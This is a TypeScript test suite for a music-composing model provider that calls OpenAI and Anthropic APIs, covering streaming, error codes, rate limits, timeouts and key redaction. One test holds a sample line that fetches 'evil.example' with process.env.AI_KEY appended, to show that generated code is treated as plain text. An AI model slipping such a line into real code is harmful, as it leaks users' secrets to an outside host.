import type { Composition, SeededRequest } from '@hocket/composer';
import { codeOf, messageOf } from '@hocket/sdk';
import { beforeEach, describe, expect, test } from 'vitest';
import { anthropicDialect } from '../../testing/ai/anthropic-dialect.ts';
import { type ModelServer, modelServer } from '../../testing/ai/model-server.ts';
import type { ModelTurn } from '../../testing/ai/model-turn.ts';
import { openAiDialect } from '../../testing/ai/openai-dialect.ts';
import { rejection } from '../../testing/rejection.ts';
import { ModelProvider } from './model-provider.ts';

const key = 'sk-hunter2';
const request = { prompt: 'slow house', seed: 7 };
const program = 'stack(\n  // "Kick"\n  s("bd").struct("x ~ ~ ~")\n)';
const answer = `Four bars. A kick – très élégant ♫.

\`\`\`strudel
${program}
\`\`\`
bpm: 118
key: A minor
confidence: 0.8`;

const kinds = [
  { provider: 'openai', dialect: openAiDialect },
  { provider: 'anthropic', dialect: anthropicDialect },
] as const;

describe.each(kinds)('$provider', ({ provider: kind, dialect }) => {
  let server: ModelServer;
  beforeEach(async () => {
    server = await modelServer(dialect, key);
    return () => server.close();
  });

  const provider = (more = {}, firstByteMs = 5000) =>
    new ModelProvider(
      { provider: kind, url: server.url, key, model: 'fake', ...more },
      ['house'],
      [],
      firstByteMs,
    );

  /** What a turn of the model comes to, and what was heard of it on the way. */
  async function composed(
    turn: ModelTurn,
    asked: SeededRequest = request,
    signal: AbortSignal = new AbortController().signal,
  ): Promise<{ made: Composition; heard: string[] }> {
    server.turns = [turn];
    const heard: string[] = [];
    const onExplanation = (words: string) => heard.push(words);
    const made = await provider().compose(asked, { signal, onExplanation });
    return { made, heard };
  }

  const refused = async (turn: ModelTurn) => codeOf(await rejection(composed(turn)));

  test('a program, and what is said of it, streamed in pieces of any size', async () => {
    for (const pieces of [1, 2, 7, 1000]) {
      const { made, heard } = await composed({ text: answer, pieces });
      expect(made).toEqual({
        generatedCode: program,
        explanation: 'Four bars. A kick – très élégant ♫.',
        bpm: 118,
        key: 'A minor',
        confidence: 0.8,
        readings: [
          { aspect: 'tempo', value: '118', source: 'chosen' },
          { aspect: 'key', value: 'A minor', source: 'chosen' },
        ],
        ignored: [],
      });
      expect(heard.join('')).toBe(made.explanation);
      expect(heard.length > 3).toBe(pieces < 10);
    }
  });

  test('an answer in one piece does as well', async () => {
    const { made } = await composed({ text: answer, whole: true });
    expect(made.generatedCode).toBe(program);
  });

  test('it is asked in its own protocol, with its task, the request between marks, and the model', async () => {
    await composed({ text: answer }, { ...request, bpm: 90, style: 'techno', code: 's("hh")' });
    const [asked] = server.asked;
    expect(asked).toMatchObject({ model: 'fake', stream: true });
    expect(asked?.system).toContain('stack(');
    expect(asked?.user).toContain('<request>\nslow house at 90 BPM in techno style');
    expect(asked?.user).toContain('s("hh")\n</request>');
  });

  test('a repair says what failed, where and why', async () => {
    const repair = { attempt: 1, code: 's("bd', layer: 'Kick', message: 'A quote is missing' };
    await composed({ text: answer }, { ...request, repair });
    const [asked] = server.asked;
    for (const text of ['"Kick"', 'A quote is missing', 's("bd'])
      expect(asked?.user).toContain(text);
  });

  test('whoever no longer waits ends the request there too', async () => {
    const controller = new AbortController();
    const going = rejection(
      composed({ text: answer, silent: 'after' }, request, controller.signal),
    );
    await expect.poll(() => server.asked.length).toBe(1);
    controller.abort(new Error('left'));
    expect(messageOf(await going)).toBe('left');
    await expect.poll(() => server.left).toBe(1);
  });

  test.each<[string, ModelTurn, string]>([
    ['prose', { text: 'I would rather talk about the weather.' }, 'ai_answer_unusable'],
    [
      'a page',
      { raw: { type: 'text/html', body: '<!doctype html><p>Sign in' } },
      'ai_answer_unusable',
    ],
    ['nothing', { text: '' }, 'ai_answer_unusable'],
    ['a body of nothing', { raw: { type: 'application/json', body: '' } }, 'ai_answer_unusable'],
    [
      'JSON of another kind',
      { raw: { type: 'application/json', body: '[1]' } },
      'ai_answer_unusable',
    ],
    [
      'events that are no JSON',
      { raw: { type: 'text/event-stream', body: 'data: {oops\n\n' } },
      'ai_answer_unusable',
    ],
    ['half a program', { text: answer.slice(0, 60), end: 'length' }, 'ai_answer_unusable'],
    ['more than 5 MB', { text: 'la '.repeat(2_000_000), pieces: 10_000 }, 'ai_answer_too_large'],
    ['5 MB at once', { text: 'la '.repeat(2_000_000), whole: true }, 'ai_answer_too_large'],
    [
      'an endless stream',
      { text: 'la '.repeat(2000), pieces: 1000, endless: true },
      'ai_answer_too_large',
    ],
    ['a broken connection', { text: answer, end: 'cut' }, 'ai_unavailable'],
    ['a stream without its last word', { text: answer, end: 'quiet' }, 'ai_unavailable'],
    ['an error in the stream', { text: answer, end: 'error' }, 'ai_unavailable'],
    ['a refusal', { text: 'I cannot help with that.', end: 'refusal' }, 'ai_refused'],
    ['a refusal at once', { text: '', end: 'refusal', whole: true }, 'ai_refused'],
    ['a failure', { status: 500 }, 'ai_unavailable'],
    ['an overloaded API', { status: 503 }, 'ai_unavailable'],
    ['an unknown model', { status: 404 }, 'ai_misconfigured'],
    ['a refused request', { status: 400 }, 'ai_misconfigured'],
    [
      'a redirect',
      { status: 302, headers: { location: 'https://evil.example' } },
      'ai_unavailable',
    ],
  ])('%s is told apart', async (_, turn, code) => {
    expect(await refused(turn)).toBe(code);
  });

  test('a program that came whole counts, though there was no room for more', async () => {
    const { made } = await composed({ text: answer.split('\nbpm')[0], end: 'length' });
    expect(made.generatedCode).toBe(program);
  });

  test.each([
    ['7', 7],
    ['0', 1],
    ['99999', 3600],
    ['soon', 60],
  ])(
    'an API that is asked too often says when to come back: Retry-After %s',
    async (after, seconds) => {
      const turn = { status: 429, headers: { 'retry-after': after } };
      const error = await rejection(composed(turn));
      expect(error).toMatchObject({
        code: 'ai_limit',
        message: `AI generation rate limited. Try again in ${seconds} seconds.`,
        details: { retryAfter: seconds },
      });
    },
  );

  test('it may say so as a date', async () => {
    const after = new Date(Date.now() + 90_000).toUTCString();
    const error = await rejection(composed({ status: 429, headers: { 'retry-after': after } }));
    const { retryAfter } = (error as { details: { retryAfter: number } }).details;
    expect(retryAfter).toBeGreaterThan(30);
    expect(retryAfter).toBeLessThanOrEqual(90);
  });

  test('a program that would do harm is text like any other', async () => {
    const evil = 'stack(s("bd")); await fetch("//evil.example?" + process.env.AI_KEY)';
    const { made } = await composed({ text: `Ha.\n\`\`\`strudel\n${evil}\n\`\`\`` });
    expect(made.generatedCode).toBe(evil);
  });

  test('an API that says nothing is given up, and told so', async () => {
    server.turns = [{ silent: 'first' }];
    const listener = { signal: new AbortController().signal, onExplanation: () => {} };
    // Long enough that the API was reached, however busy the machine is.
    const error = await rejection(provider({}, 1500).compose(request, listener));
    expect(codeOf(error)).toBe('ai_timeout');
    await expect.poll(() => server.left).toBe(1);
  });

  test('an answer that drips on and on ends when its time does', async () => {
    const dripping = { text: 'la '.repeat(100), pieces: 3, pause: 5, endless: true };
    const error = await rejection(composed(dripping, request, AbortSignal.timeout(200)));
    expect((error as Error).name).toBe('TimeoutError');
    await expect.poll(() => server.left).toBe(1);
  });

  test('a program that is too long to send along is not sent', async () => {
    const code = `// ${'x'.repeat(40_000)}`;
    expect(codeOf(await rejection(composed({ text: answer }, { ...request, code })))).toBe(
      'validation_failed',
    );
    expect(server.asked).toEqual([]);
  });

  test('a wrong key is a matter of the server, and is in no sentence', async () => {
    const listener = { signal: new AbortController().signal, onExplanation: () => {} };
    const error = await rejection(provider({ key: 'sk-wrong' }).compose(request, listener));
    expect(codeOf(error)).toBe('ai_misconfigured');
    expect(JSON.stringify([error, (error as Error).cause, String(error)])).not.toContain('sk-');
  });

  test('an API that is not there is away', async () => {
    const listener = { signal: new AbortController().signal, onExplanation: () => {} };
    const nowhere = provider({ url: 'http://127.0.0.1:1' });
    expect(codeOf(await rejection(nowhere.compose(request, listener)))).toBe('ai_unavailable');
  });
});
